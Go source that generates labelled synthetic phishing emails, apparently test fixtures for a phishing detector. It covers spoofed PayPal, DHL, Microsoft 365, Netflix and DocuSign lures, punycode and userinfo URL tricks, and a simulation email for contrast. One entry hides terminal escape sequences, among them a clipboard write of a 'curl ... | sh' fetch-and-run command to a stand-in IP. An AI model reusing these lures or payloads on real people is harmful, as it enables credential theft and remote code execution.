package build

import (
	"encoding/base64"
	"net/url"
	"strings"
	"time"
)

// Credential phishing in English: lookalike and display-name spoofs,
// wrapped and hidden links, hostile terminal text, and a phishing
// simulation for contrast.
var phishSpecs = []spec{{
	n: 6, seed: "pp-6", date: at(time.October, 9, 3, 12, 45, time.UTC), lag: 2 * time.Second,
	Entry: Entry{"Your account has been limited - action required", "phish",
		"display-name spoof: display name contains an address (service@paypal.com) different from the real one on example-bad.top; PayPal brand from an unrelated domain; Reply-To to a freemail; anchor text https://www.paypal.com/signin but href on paypal-resolution.example-bad.top; no SPF/DKIM/DMARC; origin without reverse DNS; limitation/suspension pressure (en)"},
	from: "x@mailer.example-bad.top",
	hop:  hop{rp: "bounce-77120@mailer.example-bad.top", rcpt: "j.miller@example.com", helo: "mailer.example-bad.top", ip: "167.99.77.10"},
	auth: []string{
		"spf=none (mx.example.com: mailer.example-bad.top does not designate permitted sender hosts) smtp.mailfrom=mailer.example-bad.top",
		dkimNone,
		dmarc("none", "none", "mailer.example-bad.top"),
	},
	header: []string{
		`From: "PayPal Service <service@paypal.com>" <{from}>`,
		"Reply-To: paypal.resolution.team@outlook.com",
		"To: {rcpt}",
		"Subject: {subject}",
		"Date: {date}",
		"Message-ID: <{hex:/mid:20}@mailer.example-bad.top>",
		mime10,
		"Content-Type: text/html; charset=us-ascii",
		"Content-Transfer-Encoding: quoted-printable",
		"X-Priority: 1 (Highest)",
	},
	body: []part{{text: `<html><body style="font-family:Helvetica,Arial,sans-serif">
<p><img src="https://mailer.example-bad.top/img/pp-logo.png" alt="PayPal" width="120"></p>
<p>Dear Customer,</p>
<p>We noticed unusual activity on your PayPal account and have temporarily <b>limited</b> what you can do with it.
To restore full access, please confirm your identity and billing information.</p>
<p>If we do not receive this information within 72 hours, your account will be permanently suspended.</p>
<p><a href="https://paypal-resolution.example-bad.top/limit/confirm.php?case=PP-004-318-927">https://www.paypal.com/signin</a></p>
<p>Sincerely,<br>PayPal Account Review Department</p>
<p style="font-size:10px;color:#999">Copyright &copy; 1999-2026 PayPal. All rights reserved.</p>
</body></html>
`}},
}, {
	n: 7, seed: "safelinks-7", date: at(time.October, 12, 9, 47, 18, edt), lag: 3 * time.Second,
	Entry: Entry{`Daniel Brooks shared "Q3 Remittance - Example Co.pdf" with you`, "phish",
		"Safe Links-wrapped URL (nam12.safelinks.protection.outlook.com) must be unwrapped to http://brooks-partners-sharepoint.login-docs365.com/...login.html with the recipient address; plain-http login page; SharePoint/Microsoft brand language from an unrelated domain; compromised sender: SPF/DKIM/DMARC pass through Exchange Online (auth pass, still phishing); role recipient finance@"},
	from: "d.brooks@brooksandpartners-cpa.com",
	hop:  hop{rcpt: "finance@example.com", helo: "NAM12-DM6-obe.outbound.protection.outlook.com", rdns: "mail-dm6nam12on2091.outbound.protection.outlook.com", ip: "40.107.243.91", tls: true},
	link: safeLink("http://brooks-partners-sharepoint.login-docs365.com/sites/remittance/login.html?u=finance%40example.com",
		"d.brooks@brooksandpartners-cpa.com", "safelinks-7"),
	auth: []string{
		"{spf:pass}",
		"dkim=pass (2048-bit key) header.d=brooksandpartners-cpa.com header.s=selector1 header.b={b}",
		dmarc("pass", "none", "brooksandpartners-cpa.com"),
		"arc=pass (i=1 spf=pass dkim=pass dmarc=pass)",
	},
	sigs: []sig{{"brooksandpartners-cpa.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", ""}},
	header: []string{
		"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n\tb={b64:/as:72}\n\t {b64:/as2:72}",
		"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n\ts=arcselector10001; h=From:Date:Subject:Message-ID:Content-Type:MIME-Version;\n\tbh={b64:/amsbh:43}=;\n\tb={b64:/ams:72}",
		"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n\tsmtp.mailfrom=brooksandpartners-cpa.com; dmarc=pass action=none\n\theader.from=brooksandpartners-cpa.com; dkim=pass\n\theader.d=brooksandpartners-cpa.com; arc=none",
		"{dkim}",
		"Received: from DM6PR12MB4297.namprd12.prod.outlook.com (2603:10b6:5:1ba::11)\n\tby DM6PR12MB4297.namprd12.prod.outlook.com (2603:10b6:5:1ba::11) with\n\tMicrosoft SMTP Server (version=TLS1_2,\n\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8746.21; {utc+1}",
		"Received: from DM6PR12MB4297.namprd12.prod.outlook.com\n\t([fe80::4c1d:9a2b:7e3f:1a0c]) by DM6PR12MB4297.namprd12.prod.outlook.com\n\t([fe80::4c1d:9a2b:7e3f:1a0c%7]) with mapi id 15.20.8746.21; {utc}",
		"From: Daniel Brooks <{from}>",
		"To: Finance <{rcpt}>",
		"Subject: {subject}",
		"Date: {date}",
		"Message-ID: <DM6PR12MB4297{HEX::12}@DM6PR12MB4297.namprd12.prod.outlook.com>",
		"Accept-Language: en-US",
		"Content-Language: en-US",
		"X-MS-Has-Attach:",
		"X-MS-Exchange-Organization-SCL: 1",
		mime10,
		"Content-Type: text/html; charset=utf-8",
		"Content-Transfer-Encoding: base64",
	},
	body: []part{{text: `<html><body>
<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Daniel Brooks shared a file with you</p>
<p><b>Q3 Remittance - Example Co.pdf</b><br>
Please review the attached remittance and confirm the payment schedule before Friday.</p>
<p><a href="{link&}">Open</a></p>
<p>This link will work for anyone at example.com. Microsoft respects your privacy.</p>
<p>--<br>Daniel Brooks, CPA<br>Brooks &amp; Partners LLP</p>
</div></body></html>
`}},
}, {
	n: 12, seed: "esc-12", date: at(time.October, 19, 11, 3, 27, time.UTC), lag: 3 * time.Second,
	Entry: Entry{"Mailbox notice <ESC[2J><OSC 52 clipboard write><OSC 0 title> <RLO>txt.exe <LRI>quota<PDI> exceed<ZWSP>ed", "phish",
		"terminal escape sequences in raw 8-bit Subject (ESC[2J clear screen, OSC 52 clipboard write of a curl|sh command, OSC 0 window title), bidi controls U+202E/U+2066/U+2069 and U+200B zero-width space in subject; encoded-word display name with ZWSP/ZWJ, U+2066 and SGR color; body with OSC 8 hyperlink (text outlook.office.com, target IP-literal http://203.0.113.9), hidden SGR 8 text, cursor-up/erase-line; IP-literal link with recipient address; no auth"},
	from: "helpdesk@it-servicedesk-portal.top",
	hop:  hop{rcpt: "support@example.com", helo: "it-servicedesk-portal.top", ip: "45.32.9.201"},
	auth: []string{"{spf:neutral}", dkimNone, dmarc("none", "none", "it-servicedesk-portal.top")},
	// Raw 8-bit UTF-8 subject carrying escapes, bidi controls and a zero-width space.
	header: basic("{u8:IT\u200b Service\u200d Desk \u2066"+esc+"[31mURGENT"+esc+"[0m\u2069} <{from}>", "{rcpt}",
		"Mailbox notice"+esc+"[2J"+esc+"]52;c;"+base64.StdEncoding.EncodeToString([]byte("curl -s http://203.0.113.9/p | sh\n"))+"\x07"+
			esc+"]0;triage: all clear\x07"+" \u202etxt.exe\u202c \u2066quota\u2069 exceed\u200bed",
		"{date}", "<{hex:/mid:16}@it-servicedesk-portal.top>",
		"Content-Type: text/plain; charset=utf-8",
		"Content-Transfer-Encoding: 8bit"),
	body: []part{{text: lines(
		"Your mailbox has exceeded its storage quota."+esc+"[8m hidden text for the terminal "+esc+"[0m",
		"",
		"Log in to the web portal to release held messages:",
		esc+"]8;;http://203.0.113.9/owa/auth.php?u={rcpt}"+esc+"\\https://outlook.office.com/owa/"+esc+"]8;;"+esc+"\\",
		"",
		"Reference: \u202eCOD-1234\u202c / \u2067\u2066ticket\u2069\u2069 "+esc+"[1A"+esc+"[2K(this line overwrites the one above)",
		"",
		"IT Service Desk",
	)}},
}, {
	n: 18, seed: "dhl-18", date: at(time.October, 27, 16, 40, 5, cet), lag: 4 * time.Second,
	Entry: Entry{"DHL: Your parcel JD014600006281740112 is on hold - customs fee unpaid", "phish",
		"DHL brand from dhl-parcel-support.com (real: dhl.com); small customs fee payment request with 48-hour deadline (en); plain-http link to dhl.parcel-redelivery.top (brand name as subdomain label); SPF fail, no DKIM, no DMARC policy; origin without reverse DNS"},
	from: "noreply@dhl-parcel-support.com",
	hop:  hop{rp: "bounce@dhl-parcel-support.com", rcpt: "j.miller@example.com", helo: "dhl-parcel-support.com", ip: "5.75.190.90"},
	auth: []string{"{spf:fail}", dkimNone, dmarc("none", "none", "dhl-parcel-support.com")},
	header: basic("DHL Express <{from}>", "{rcpt}", "{subject}", "{date}", "<{hex:/mid:24}@dhl-parcel-support.com>",
		"Content-Type: text/html; charset=utf-8",
		"Content-Transfer-Encoding: quoted-printable"),
	body: []part{{text: `<html><body style="font-family:Arial">
<div style="background:#ffcc00;padding:12px"><b style="color:#d40511;font-size:22px">DHL</b> Express</div>
<p>Dear customer,</p>
<p>Your parcel <b>JD014600006281740112</b> is being held at our distribution centre because the
customs duty of <b>EUR 1.99</b> has not been paid.</p>
<p>Please pay the outstanding fee within <b>48 hours</b>, otherwise the parcel will be returned to the sender.</p>
<p><a href="http://dhl.parcel-redelivery.top/pay/?id={hex::24}">Pay now and schedule delivery</a></p>
<p>Thank you for choosing DHL.<br>DHL Express Customer Service</p>
</body></html>
`}},
}, {
	n: 20, seed: "m365-20", date: at(time.October, 29, 4, 21, 56, time.UTC), lag: 3 * time.Second,
	Entry: Entry{"Password Expiry Notice for j.miller@example.com", "phish",
		"Microsoft 365 brand from mail-notices365.com; recipient address in subject and link; link on a free hosting platform (web.app / Firebase); keep-current-password credential lure with same-day deadline; recipient's domain used as sender label; no SPF/DKIM/DMARC"},
	from: "noreply@mail-notices365.com",
	hop:  hop{rcpt: "j.miller@example.com", helo: "mail-notices365.com", ip: "139.162.214.5"},
	auth: []string{"{spf:none}", dkimNone, dmarc("none", "none", "mail-notices365.com")},
	header: basic(`"example.com Administrator" <{from}>`, "{rcpt}", "{subject}", "{date}", "<{hex:/mid:30}@mail-notices365.com>",
		"Content-Type: text/html; charset=utf-8",
		"Content-Transfer-Encoding: base64"),
	body: []part{{text: `<html><body style="font-family:Segoe UI,Arial">
<p><b>Microsoft 365</b></p>
<p>Password Expiry Notice for <b>{rcpt}</b></p>
<p>The password to your mailbox <b>{rcpt}</b> expires today. You can keep your current password
or change it. If no action is taken, you will be signed out and incoming messages will be rejected.</p>
<p><a href="https://m365-password-keep.web.app/?e={rcpt}" style="background:#0078d4;color:#fff;padding:8px 14px;text-decoration:none">Keep Current Password</a></p>
<p style="font-size:11px;color:#666">example.com Email Administrator &bull; This message was sent from an unmonitored address.</p>
</body></html>
`}},
}, {
	n: 22, seed: "vm-22", date: at(time.November, 2, 15, 33, 12, est), lag: 2 * time.Second,
	Entry: Entry{"\U0001F50A New voicemail from +1 (312) 555-0187 (0:42)", "phish",
		"voicemail lure with emoji in an encoded-word subject; link on Cloudflare R2 public bucket (r2.dev) with the recipient address in the fragment; Microsoft 365 sign-in request; 24-hour retention pressure; SPF softfail, no DKIM/DMARC"},
	from: "voicemail@telephony-notify.net",
	hop:  hop{rcpt: "ken.ito@example.com", helo: "smtp.telephony-notify.net", ip: "149.28.19.44"},
	auth: []string{"{spf:softfail}", dkimNone, dmarc("none", "none", "telephony-notify.net")},
	header: basic("Voice Mail Service <{from}>", "{rcpt}", "{subject:u8}", "{date}", "<{hex:/mid:24}@telephony-notify.net>",
		"Content-Type: text/html; charset=utf-8",
		"Content-Transfer-Encoding: quoted-printable"),
	body: []part{{text: `<html><body style="font-family:Arial">
<p><b>You have a new voice message</b></p>
<table><tr><td>From:</td><td>+1 (312) 555-0187</td></tr>
<tr><td>Length:</td><td>0:42</td></tr>
<tr><td>Received:</td><td>Monday, November 2, 2026 3:31 PM</td></tr></table>
<p><a href="https://pub-3f9a1c5e7b2d4e6f8a0b1c2d3e4f5a6b.r2.dev/vm/index.html#{rcpt}">&#9654; Play Voice Message</a></p>
<p style="font-size:11px">Sign in with your Microsoft 365 account to listen. Voicemail is kept for 24 hours.</p>
</body></html>
`}},
}, {
	n: 23, seed: "ipfs-23", date: at(time.November, 3, 2, 8, 44, time.UTC), lag: 3 * time.Second,
	Entry: Entry{"Mailbox quota exceeded: 17 messages on hold for info@example.com", "phish",
		"webmail-quota lure impersonating the recipient's own mail system from example-com-mailserver.com (recipient domain embedded in a foreign domain); link to a page on an IPFS gateway (ipfs.io/ipfs/<CID>) with the address in the fragment; role recipient info@; no auth"},
	from: "postmaster@example-com-mailserver.com",
	hop:  hop{rcpt: "info@example.com", helo: "example-com-mailserver.com", ip: "173.212.188.3"},
	auth: []string{"{spf:none}", dkimNone, dmarc("none", "none", "example-com-mailserver.com")},
	header: basic("Mail Delivery System <{from}>", "{rcpt}", "{subject}", "{date}", "<{hex:/mid:20}@example-com-mailserver.com>",
		"Content-Type: text/plain; charset=us-ascii",
		"Content-Transfer-Encoding: 7bit"),
	body: []part{{text: lines(
		"Mail Delivery System - example.com",
		"",
		"Dear {rcpt},",
		"",
		"Your mailbox storage is 99% full (49.6 GB of 50 GB). 17 incoming messages",
		"are on hold and will be deleted if you do not increase your quota.",
		"",
		"Upgrade storage and release messages:",
		"https://ipfs.io/ipfs/bafybei"+base32ish(hexid("ipfs-23", 52))+"/index.html#{rcpt}",
		"",
		"example.com Email Server Administrator",
	)}},
}, {
	n: 24, seed: "nflx-24", date: at(time.November, 4, 20, 12, 9, time.UTC), lag: 2 * time.Second,
	Entry: Entry{"Your payment was declined - update your billing details", "phish",
		"Netflix brand from account-netflix-billing.com; main call-to-action behind a bit.ly shortener (destination hidden); one genuine help.netflix.com link as camouflage; 24-hour cancellation pressure; SPF pass only (attacker domain), no DKIM/DMARC"},
	from: "info@account-netflix-billing.com",
	hop:  hop{rcpt: "hanako.sato@example.com", helo: "account-netflix-billing.com", ip: "159.89.231.7"},
	auth: []string{"{spf:pass}", dkimNone, dmarc("none", "none", "account-netflix-billing.com")},
	header: basic("Netflix <{from}>", "{rcpt}", "{subject}", "{date}", "<{hex:/mid:28}@account-netflix-billing.com>",
		"Content-Type: text/html; charset=utf-8",
		"Content-Transfer-Encoding: 7bit"),
	body: []part{{text: `<html><body style="font-family:Helvetica,Arial;background:#141414;color:#fff">
<h2 style="color:#e50914">NETFLIX</h2>
<p>Hi,</p>
<p>We were unable to process your payment for the next billing cycle. Your membership will be
cancelled unless you update your payment details within 24 hours.</p>
<p><a href="https://bit.ly/4kQ9xZt" style="background:#e50914;color:#fff;padding:10px 18px">UPDATE ACCOUNT</a></p>
<p>Need help? Visit the <a href="https://help.netflix.com/">Help Center</a>.</p>
<p>&mdash; Your friends at Netflix</p>
</body></html>
`}},
}, {
	n: 26, seed: "docu-26", date: at(time.November, 6, 11, 47, 30, est), lag: 3 * time.Second,
	Entry: Entry{"Accounts Department sent you Payment_Authorization_Nov2026.pdf to review and sign", "phish",
		"DocuSign brand from docu-sign-mail.com (real: docusign.net); link to a bare IPv4 address over plain http with the recipient address in the query; end-of-day pressure; role recipient finance@; SPF fail, DMARC none"},
	from: "dse_na2@docu-sign-mail.com",
	hop:  hop{rcpt: "finance@example.com", helo: "docu-sign-mail.com", ip: "134.209.23.81"},
	auth: []string{"{spf:fail}", dkimNone, dmarc("none", "none", "docu-sign-mail.com")},
	header: basic("DocuSign via Accounts Department <{from}>", "{rcpt}", "{subject}", "{date}", "<{hex:/mid:32}@docu-sign-mail.com>",
		"Content-Type: text/html; charset=utf-8",
		"Content-Transfer-Encoding: base64"),
	body: []part{{text: `<html><body style="font-family:Arial">
<div style="background:#1e4ca1;color:#fff;padding:16px"><b>DocuSign</b></div>
<p>Accounts Department sent you a document to review and sign.</p>
<p><b>Payment_Authorization_Nov2026.pdf</b></p>
<p><a href="http://198.51.100.23/docusign/view.php?doc={hex::20}&u={rcpt}" style="background:#ffc820;padding:10px 20px;color:#000">REVIEW DOCUMENT</a></p>
<p>Please complete by end of day.</p>
<p style="font-size:10px">Do Not Share This Email. This email contains a secure link to DocuSign.</p>
</body></html>
`}},
}, {
	n: 27, seed: "ppco-27", date: at(time.November, 9, 6, 30, 17, time.UTC), lag: 2 * time.Second,
	Entry: Entry{"Receipt for your payment to GameStop Online (USD 849.99)", "phish",
		"PayPal brand from paypal.co (TLD swap of paypal.com); link https://www.paypal.com@203.0.113.9/ (userinfo trick: real host is the IP literal 203.0.113.9); fake-payment cancellation lure; SPF fail and DMARC fail with p=reject"},
	from:     "service@paypal.co",
	hop:      hop{rcpt: "j.miller@example.com", helo: "smtp.paypal.co", ip: "54.36.9.140"},
	link:     "https://www.paypal.com@203.0.113.9/signin/?country.x=US&locale.x=en_US&cmd=_account-verify",
	boundary: "--==_{hex::16}",
	auth:     []string{"{spf:fail}", dkimNone, dmarc("fail", "reject", "paypal.co")},
	header: basic("PayPal <{from}>", "{rcpt}", "{subject}", "{date}", "<{hex:/mid:24}@paypal.co>",
		`Content-Type: multipart/alternative; boundary="{boundary}"`),
	body: []part{asciiText(lines(
		"Hello,",
		"",
		"A payment of USD 849.99 to \"GameStop Online\" was authorised from your account.",
		"If you did not make this payment, cancel it and secure your account now:",
		"",
		"{link}",
		"",
		"PayPal",
	)), {
		header: []string{"Content-Type: text/html; charset=us-ascii", "Content-Transfer-Encoding: quoted-printable"},
		text: `<html><body style="font-family:Arial">
<p>Hello,</p>
<p>A payment of <b>USD 849.99</b> to "GameStop Online" was authorised from your account.</p>
<p>If you did not make this payment, cancel it and secure your account now:</p>
<p><a href="{link&}">https://www.paypal.com/signin</a></p>
<p>PayPal</p></body></html>
`,
	}},
}, {
	n: 29, seed: "puny-29", date: at(time.November, 11, 1, 4, 38, time.UTC), lag: 2 * time.Second,
	Entry: Entry{"Confirm your recent login from a new device", "phish",
		"punycode lookalike domain xn--pypal-4ve.com = p\u0430ypal.com with Cyrillic U+0430 (mixed-script confusable of paypal.com) in From and link; anchor text shows the Unicode form; SPF/DKIM/DMARC pass for the lookalike; new-device login lure"},
	from: "security@xn--pypal-4ve.com",
	hop:  hop{rcpt: "ken.ito@example.com", helo: "mail.xn--pypal-4ve.com", rdns: "mail.xn--pypal-4ve.com", ip: "65.108.61.17", tls: true},
	auth: []string{
		"{spf:pass}",
		"dkim=pass (2048-bit key) header.d=xn--pypal-4ve.com header.s=mail header.b={b}",
		dmarc("pass", "none", "xn--pypal-4ve.com"),
	},
	sigs: []sig{{"xn--pypal-4ve.com", "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", ""}},
	header: signed(basic("PayPal <{from}>", "{rcpt}", "{subject}", "{date}", "<{hex:/mid:24}@xn--pypal-4ve.com>",
		"Content-Type: text/html; charset=utf-8",
		"Content-Transfer-Encoding: base64")...),
	body: []part{{text: `<html><body style="font-family:Arial">
<p>Hi,</p>
<p>We noticed a login to your account from a new device:</p>
<ul><li>Device: Windows 11, Chrome</li><li>Location: Lagos, Nigeria</li><li>Time: Nov 11, 2026 00:58 UTC</li></ul>
<p>If this wasn't you, confirm your identity so we can secure your account:</p>
<p><a href="https://xn--pypal-4ve.com/signin?session={hex::16}">https://p` + "\u0430" + `ypal.com/signin</a></p>
<p>PayPal Security</p></body></html>
`}},
}, {
	n: 36, seed: "sim-36", date: at(time.November, 20, 10, 0, 0, jst), lag: 2 * time.Second,
	Entry: Entry{"Action required: acknowledge the updated remote work policy", "simulation",
		"internal phishing simulation: HR lure with deadline from a look-alike policy-portal.example sent through a simulation vendor (X-PHISHTEST header, vendor hop); link with per-recipient token; DKIM pass for the vendor; label simulation, not phish"},
	from: "hr-updates@policy-portal.example",
	hop:  hop{rp: "bounce-c2026q403@send.exampleaware.example", rcpt: "ken.ito@example.com", helo: "send3.exampleaware.example", rdns: "send3.exampleaware.example", ip: "18.194.200.4", tls: true},
	auth: []string{
		"spf=pass (mx.example.com: domain of {rp} designates 18.194.200.4 as permitted sender) smtp.mailfrom=send.exampleaware.example",
		"dkim=pass (2048-bit key) header.d=exampleaware.example header.s=sim1 header.b={b}",
		dmarc("none", "none", "policy-portal.example"),
	},
	sigs: []sig{{"exampleaware.example", "sim1", "From:To:Subject:Date:Message-ID", ""}},
	header: []string{
		"{dkim}",
		"From: Human Resources <{from}>",
		"To: {rcpt}",
		"Subject: {subject}",
		"Date: {date}",
		"Message-ID: <{hex:/mid:30}@send3.exampleaware.example>",
		"X-PHISHTEST: ExampleAware simulated phishing - campaign 2026-Q4-03",
		"X-ExampleAware-Campaign: 2026-Q4-03",
		mime10,
		"Content-Type: text/html; charset=utf-8",
		"Content-Transfer-Encoding: 7bit",
	},
	body: []part{{text: `<html><body style="font-family:Arial">
<p>Dear colleague,</p>
<p>The remote work policy has been updated. All employees must review and acknowledge
the new policy by <b>Friday</b>.</p>
<p><a href="https://policy-portal.example/r/{hex::24}">Review and acknowledge the policy</a></p>
<p>Human Resources</p>
</body></html>
`}},
}}

// esc starts a terminal escape sequence.
const esc = "\x1b"

// safeLink wraps target the way Microsoft Defender Safe Links does.
func safeLink(target, mailbox, seed string) string {
	data := "05|02|" + mailbox + "|" + hexid(seed+"/d1", 32) + "|" + "72f988bf-86f1-41af-91ab-" + hexid(seed+"/tenant", 12) +
		"|0|0|638958421736402117|Unknown|TWFpbGZsb3d8eyJFbXB0eU1hcGkiOnRydWV9|0|||"
	return "https://nam12.safelinks.protection.outlook.com/?url=" + url.QueryEscape(target) +
		"&data=" + url.QueryEscape(data) +
		"&sdata=" + url.QueryEscape(fakeB64(seed+"/sdata", 43)+"=") + "&reserved=0"
}

// base32ish maps hex digits onto the RFC 4648 lowercase base32 alphabet so a
// fake CIDv1 looks right.
func base32ish(hex string) string {
	const alpha = "abcdefghijklmnopqrstuvwxyz234567"
	var b strings.Builder
	for i := 0; i < len(hex); i++ {
		b.WriteByte(alpha[(int(hex[i])*7+i)%32])
	}
	return b.String()
}
